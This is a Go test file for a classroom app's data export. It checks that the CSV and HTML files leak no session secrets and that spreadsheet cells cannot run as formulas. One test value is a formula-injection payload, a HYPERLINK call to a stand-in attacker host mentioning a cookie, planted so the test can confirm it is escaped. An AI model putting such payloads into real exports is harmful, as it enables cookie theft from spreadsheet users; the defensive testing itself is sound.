package app

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/sessionscope/sessionscope/internal/classroom"
	"github.com/sessionscope/sessionscope/internal/session"
)

// The files that are taken home have what came out, and the answers of nobody: nothing in them tells one
// seat's answer, nor opens or finds a seat. Each secret is marked, and the control finds it where it is
// kept.
func TestExport(t *testing.T) {
	t.Parallel()
	w := openClassWorld(t, nil)
	ctx := t.Context()
	one, two, at := taught(w)
	one.post(at[0]+"/set", "key", "secret-key", "value", "secret-value", "placement", "hybrid").want(303)
	first, second := w.seatAt(at[0]), w.seatAt(at[1])
	if err := w.class.roster.SetProgress(ctx, first.ID, []byte(`{"done":[1,2],"right":[2]}`)); err != nil {
		t.Fatal(err)
	}
	csvOf := func() string {
		t.Helper()
		a := w.teacher.get("/classroom/export.csv").want(200)
		if got := a.Header.Get("Content-Disposition"); !regexp.MustCompile(`^attachment; filename="sessionscope-class-\d{4}-\d\d-\d\d\.csv"$`).MatchString(got) {
			t.Errorf("the table is saved as %s", got)
		}
		return a.body
	}
	if open := csvOf(); !strings.Contains(open, "Still open.") || !regexp.MustCompile(`\r\nprediction,2,,Two tabs at once,[^\r]*,,,,\r\n`).MatchString(open) {
		t.Errorf("while the question is open:\n%s", open)
	}
	revealed(w)
	if _, err := w.class.survey.Begin(ctx, classroom.ActForget, 2, []classroom.Stake{{Seat: first.ID, Known: session.Known{Key: session.KeyOf("x"), Placement: session.OnServer}}, {Seat: second.ID}}); err != nil {
		t.Fatal(err)
	}
	w.class.survey.Done(ctx, false)
	w.class.survey.Pressed(ctx, first.ID, w.class.survey.Number(), classroom.Showed{What: classroom.ShowedRefused, Why: "=ended"})
	page := w.teacher.get("/classroom/export.html").want(200, "After the store forgot everything", "1: =ended")
	if got := page.Header.Get("Content-Disposition"); !regexp.MustCompile(`^attachment; filename="sessionscope-class-\d{4}-\d\d-\d\d\.html"$`).MatchString(got) {
		t.Errorf("the page is saved as %s", got)
	}
	page.want(200, "2 seats", "2. Two tabs at once", "✓ came true", "1. ", "2. ", first.Nickname, second.Nickname, "Closed, and not revealed.", "&lt;b&gt;code&lt;/b&gt;", "counted by hand").wantNo("<script", "<b>code", " src=", " href=", "url(", "@import")
	table := csvOf()
	cells := tableOf(t, table)
	for _, want := range []string{
		"class||DAY|A class with Sessionscope|seats|2||||",
		"prediction|2|||TEXT|1|1||came true", "hands|2|||TEXT|3|7||counted by hand", "everyone|||After the store forgot everything|the server: refused|1|1||1: =ended", "everyone|||After the store forgot everything|no session known: not heard from|1|1||", fmt.Sprintf("progress|||experiments done|%s|2|28|1|", first.Nickname),
	} {
		kind := strings.Split(want, "|")[0]
		found := false
		for _, row := range cells {
			found = found || row[0] == kind && fits(strings.Split(want, "|"), row)
		}
		if !found {
			t.Errorf("the table has no %s:\n%s", want, table)
		}
	}

	if strings.Contains(table, "the server: expired or replaced,0,1,,1") {
		t.Errorf("the table says why nobody's session has ended:\n%s", table)
	}
	hasNoSecret(w, map[string]string{"page": page.body, "table": table}, []*guest{one, two}, at)
	if _, err := html.Parse(strings.NewReader(page.body)); err != nil {
		t.Error(err)
	}
}

// revealed closes the second question, counts hands, and reveals it with a verdict that is a formula and markup.
func revealed(w *classWorld) {
	w.Helper()
	ctx, together := w.Context(), w.class.together
	for _, step := range []func() error{
		func() error { return together.CloseQuestion(ctx, 0) },
		func() error { return together.SetHands(ctx, 0, []int{3, 4}) },
		func() error { _, err := together.BeginRun(ctx, 0); return err },
		func() error {
			return together.SetResult(ctx, 2, classroom.Result{Happened: 2, Verdict: `=HYPERLINK("http://evil.example","{cookie a}"),;@SUM(1)` + "\r\n<b>`code`</b>", At: w.clock.Now(), Run: "secret-run"})
		},
	} {
		if err := step(); err != nil {
			w.Fatal(err)
		}
	}
}

// hasNoSecret checks that nothing which opens or finds a seat is in the files. The control finds each secret
// where it is kept.
func hasNoSecret(w *classWorld, files map[string]string, phones []*guest, at [2]string) {
	w.Helper()
	ctx, first, second := w.Context(), w.seatAt(at[0]), w.seatAt(at[1])
	kept := new(strings.Builder) // where the control finds the secrets
	for doc := range w.documents.All(ctx) {
		fmt.Fprintf(kept, "%s %s\n", doc.Name, doc.Data)
	}
	for entry := range w.class.parts.Backend.All(ctx) {
		fmt.Fprintf(kept, "%x %s\n", entry.Key, entry.Record.Data)
	}
	for i, p := range phones {
		fmt.Fprintln(kept, at[i], p.remote, p.cookie("/join", cookieName+"-seat"), p.cookie(at[i]+"/", cookieName+"~"+w.seatAt(at[i]).Name))
	}
	tile, _ := w.class.board.Tile(first.ID)
	fmt.Fprintln(kept, tile.Session)
	secrets := map[string]string{
		"a key": "typed-key", "a value": "typed-value", "another key": "secret-key", "another value": "secret-value", "a code": first.Code, "a suffix": second.Suffix, "an ID": string(first.ID), "a device": first.Device.String(), "a run": "secret-run",
		"a seat's cookie": phones[0].cookie("/join", cookieName+"-seat"), "a session's cookie": phones[0].cookie(at[0]+"/", cookieName+"~"+first.Name), "a session": tile.Session, "the name of a seat in its path": "/s/" + first.Name,
	}
	for what, secret := range secrets {
		if secret == "" || what != "a session" && !strings.Contains(kept.String(), secret) {
			w.Errorf("the control: %s, %q, is kept nowhere", what, secret)
		}
		for name, file := range files {
			if strings.Contains(strings.ToLower(file), strings.ToLower(secret)) {
				w.Errorf("%s is in the %s", what, name)
			}
		}
	}
}

// fits tells whether a row has the wanted cells: "" for any, TEXT for some text, DAY for a day.
func fits(want, row []string) bool {
	for i, cell := range want {
		switch {
		case cell == "":
		case cell == "TEXT" && row[i] != "", cell == "DAY" && len(row[i]) == len("2026-11-27 10:00:00"):
		case cell != row[i]:
			return false
		}
	}
	return true
}

// tableOf reads an exported table as a program does, and checks that no cell of it is a formula.
func tableOf(t *testing.T, table string) [][]string {
	t.Helper()
	if !strings.HasPrefix(table, "\ufeffkind,question,time,title,item,count,of,right,note\r\n") {
		t.Errorf("the table begins %.80q", table)
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(table, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if strings.Count(table, "\n") != len(rows) || strings.Count(table, "\r\n") != len(rows) {
		t.Errorf("%d lines, %d rows", strings.Count(table, "\n"), len(rows))
	}
	for _, row := range rows {
		for _, cell := range row {
			for part := range strings.SplitSeq(cell, ";") {
				if part = strings.TrimLeft(part, ` "`); part != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(part)[0]) {
					t.Errorf("a cell can be a formula: %q", cell)
				}
			}
		}
	}
	return rows
}

// A spreadsheet would run what a cell says.
func TestHarmless(t *testing.T) {
	t.Parallel()
	for cell, want := range map[string]string{
		"=1+1": "'=1+1", "+1": "'+1", "-1": "'-1", "@a": "'@a", "\t=1": " '=1", "\r=1": " '=1", "a\r\nb": "a  b", "a;=1": "a;'=1", `;"=1`: `;"'=1`, "＝1": "'＝1", "a=1": "a=1", "Amber Fox": "Amber Fox", "": "",
	} {
		if got := harmless(cell); got != want {
			t.Errorf("%q becomes %q, want %q", cell, got, want)
		}
	}
}

// The files of a class that has done nothing say so.
func TestExportOfNothing(t *testing.T) {
	t.Parallel()
	w := openClassWorld(t, nil)
	w.teacher.get("/classroom/export.html").want(200, "Nothing was asked in this class.", "0 seats")
	if rows := tableOf(t, w.teacher.get("/classroom/export.csv").want(200).body); len(rows) != 2 {
		t.Errorf("%q", rows)
	}
	if page, name, err := w.app.ExportClass(t.Context()); err != nil || !strings.HasSuffix(name, ".html") || !bytes.Contains(page, []byte("Nothing was asked")) {
		t.Errorf("%s, %v", name, err)
	}
}
